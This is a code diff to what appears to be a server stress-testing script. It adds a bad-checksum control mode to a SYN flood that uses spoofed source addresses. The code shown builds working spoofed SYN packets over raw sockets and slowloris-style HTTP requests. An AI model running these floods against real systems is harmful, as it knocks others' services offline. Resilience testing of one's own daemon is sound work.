@@ -15,6 +15,10 @@ line of what it did.
       for SECS; prints how many were open at the end.
   syn DST PORT SECS SPOOF_BASE N_SPOOF
       SYNs from forged addresses and ports as fast as one thread sends them.
+  synbad DST PORT SECS SPOOF_BASE N_SPOOF
+      The same SYNs with a wrong TCP checksum: what the flood costs the
+      machine and the daemon's receive path when nothing is answered (the
+      control for syn).
   slowhttp DST PORT N SECS
       N connections each sending an HTTP request one byte per second.
   slowftp DST PORT N SECS
@@ -144,7 +148,7 @@ def mode_idle(dst, port, n, secs, srcs):
     return {"opened": len(socks), "failed": fails, "open_at_end": open_now}
 
 
-def mode_syn(dst, port, secs, spoof_base, n_spoof):
+def mode_syn(dst, port, secs, spoof_base, n_spoof, badsum=False):
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     base = struct.unpack("!I", socket.inet_aton(spoof_base))[0]
     sent = 0
@@ -156,7 +160,7 @@ def mode_syn(dst, port, secs, spoof_base, n_spoof):
         tcp = struct.pack("!HHIIBBHHH", sport, port, random.randrange(1 << 32), 0, 6 << 4, 0x02,
                           64240, 0, 0) + struct.pack("!BBH", 2, 4, 1460)
         ph = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
-        tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
+        tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp) ^ (0x5a5a if badsum else 0)) + tcp[18:]
         try:
             raw.sendto(ip_hdr(src, dst, 6, len(tcp)) + tcp, (dst, 0))
             sent += 1
@@ -261,8 +265,8 @@ def main():
         r = mode_fris(a[0], int(a[1]), float(a[2]), a[3], int(a[4]))
     elif m == "idle":
         r = mode_idle(a[0], int(a[1]), int(a[2]), float(a[3]), a[4:])
-    elif m == "syn":
-        r = mode_syn(a[0], int(a[1]), float(a[2]), a[3], int(a[4]))
+    elif m in ("syn", "synbad"):
+        r = mode_syn(a[0], int(a[1]), float(a[2]), a[3], int(a[4]), m == "synbad")
     elif m == "slowhttp":
         r = slow(a[0], int(a[1]), int(a[2]), float(a[3]),
                  b"GET /images/x HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: y\r\n" * 1000, False)
